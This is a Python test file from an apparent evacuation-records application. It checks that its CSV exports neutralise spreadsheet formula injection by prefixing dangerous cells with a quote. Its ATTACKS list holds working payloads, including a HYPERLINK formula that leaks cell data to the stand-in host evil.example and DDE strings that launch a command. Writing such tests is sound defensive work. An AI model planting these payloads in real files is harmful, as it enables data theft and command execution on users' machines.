"""Formula injection (OWASP CSV injection) on every CSV evac writes."""

import csv
import io

import pytest
from typer.testing import CliRunner

from evac.auth.permissions import Actor, Role, cli_actor
from evac.cli import app
from evac.intake.readers import read_source
from evac.intake.service import get_batch, import_tables, rejects_csv, write_rejects
from evac.people.service import PersonNames, create_person
from evac.safe_csv import safe_cell
from evac.vault.exports import checkpoint_csv, checkpoint_list

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("plain", ["+93 799 123 456", "-12.5", "0799-123-456", "Zarghona", ""])
def test_names_phones_and_numbers_stay_as_written(plain):
    assert safe_cell(plain) == plain


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_rejects_file_and_rejects_download_neutralise_formulas(session, cipher, tmp_path):
    source = tmp_path / "partner.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [["Full Name", "DOB", "Phone"]]
            + [[attack, "30/02/1985", "+93 799 123 456"] for attack in ATTACKS[:4]]
        )
    summary = import_tables(
        session,
        actor=cli_actor(),
        cipher=cipher,
        tables=read_source(source),
        source="ngo",
        file=source.name,
        mapping={"Full Name": "full_name", "DOB": "birth_date", "Phone": "phone"},
    )
    assert summary.rejected == 4  # February 30 does not exist
    written = tmp_path / "partner.rejected.csv"
    write_rejects(written, summary.rejects)
    batch = get_batch(session, actor=cli_actor(), reference=summary.reference)
    for text in (
        written.read_text(encoding="utf-8"),
        rejects_csv(session, actor=cli_actor(), cipher=cipher, batch=batch),
    ):
        found = cells(text)
        for attack in ATTACKS[:4]:
            assert "'" + attack in found and attack not in found
        assert "+93 799 123 456" in found  # a phone keeps its country code


def test_checkpoint_export_neutralises_a_formula_name(session, cipher):
    person = create_person(
        session, cipher=cipher, names=PersonNames("=cmd|' /C calc'!A0", family_name="Sultani")
    )
    officer = Actor(username="officer1", role=Role.officer, user_id=1)
    rows = checkpoint_list(
        session, actor=officer, cipher=cipher, passes={person.id: "@PASS"}, checkpoint="gate N"
    )
    assert cells(checkpoint_csv(rows))[2:] == ["'=cmd|' /C calc'!A0 Sultani", "'@PASS"]


def test_link_file_output_neutralises_record_ids(tmp_path):
    source, out = tmp_path / "in.csv", tmp_path / "clusters.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [
                ["record_id", "given_name", "father_name", "date_of_birth"],
                ["=HYPERLINK(1)", "Zabihullah", "Abdul Haq", "1986"],
                ["2", "Fatima", "Abdul Haq", "1990"],
            ]
        )
    result = CliRunner().invoke(app, ["link", "file", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert cells(out.read_text(encoding="utf-8"))[2] == "'=HYPERLINK(1)"
